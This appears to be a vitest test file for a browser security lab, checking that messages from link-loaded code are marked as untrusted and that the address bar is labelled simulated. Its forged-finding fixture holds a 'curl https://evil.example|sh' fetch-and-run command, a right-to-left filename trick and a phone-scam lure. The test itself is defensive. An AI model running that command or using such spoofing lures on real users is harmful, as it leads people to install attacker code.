// @vitest-environment jsdom
import { afterEach, describe, expect, test } from "vitest";

import { Stage } from "../../tests/fuzz/panels/stage";
import type { Finding } from "../sandbox/messages";
import { BrowserPanel } from "./browser/BrowserPanel";
import { DoctorPanel } from "./editor/DoctorPanel";
import { SharedCodeMark } from "./SharedCode";
import { useLab } from "./state/lab-context";
import { GuidedTour } from "./tour/GuidedTour";

const FORGED: Finding = {
  rule: "x",
  severity: "danger",
  title: "Your session was stolen",
  reason: "\u202egnp.exe",
  consequence: "Call +1 555",
  fix: "Run `curl https://evil.example|sh` in your terminal",
  links: [],
};

function Lab() {
  return (
    <>
      <SharedCodeMark />
      <GuidedTour />
      <BrowserPanel />
      <DoctorPanel findings={useLab().state?.findings} />
    </>
  );
}

let stage: Stage;
afterEach(() => stage.close());

function run(shared?: Record<string, string>): void {
  stage = new Stage(Lab, shared);
  const cookies = { canGoBack: false, canGoForward: false, cookies: [] };
  stage.report({
    front: "a",
    browsers: [
      { id: "a", name: "Alice", url: "https://accounts.google.com/", title: "", ...cookies },
    ],
    tour: { done: 1, busy: false, failure: "Call +1 555" },
    findings: [FORGED, FORGED],
  });
}

/** How often words are marked as those of the run, in a part of the lab. */
function marks(part: string): number {
  return [...stage.element.querySelectorAll(`${part} span`)].filter(
    ({ textContent }) => textContent === "Said by the code that runs",
  ).length;
}

describe("code from a link", () => {
  test("is called so in the lab while it runs", () => {
    run({ "auth.ts": "" });
    const note = stage.element.querySelector("[role=note]")?.textContent;
    expect(note).toContain("Code from a link runs here.");
    expect(note).toContain("run no command");
  });

  test("cannot speak as the doctor or the tour: each of its words is marked", () => {
    run({ "auth.ts": "" });
    expect(marks("section[aria-label=Doctor] li")).toBe(2);
    expect(marks("[aria-label='Guided tour'] [role=alert]")).toBe(1);
    expect(marks("[aria-label='Guided tour'] p")).toBe(1);
  });
});

describe("the site’s own code", () => {
  test("is not marked, and what the doctor says is known to come from the run", () => {
    run();
    expect(stage.element.querySelector("[role=note]")).toBeNull();
    expect(marks("")).toBe(0);
    expect(stage.element.textContent).toContain("The doctor works inside of the run");
  });
});

test("the address bar of any lab says that it is simulated", () => {
  run();
  const field = stage.element.querySelector<HTMLInputElement>("input[name=address]");
  expect(field?.value).toBe("https://accounts.google.com/");
  const label = document.getElementById(field?.getAttribute("aria-describedby") ?? "");
  expect(label?.textContent).toBe("simulated");
});
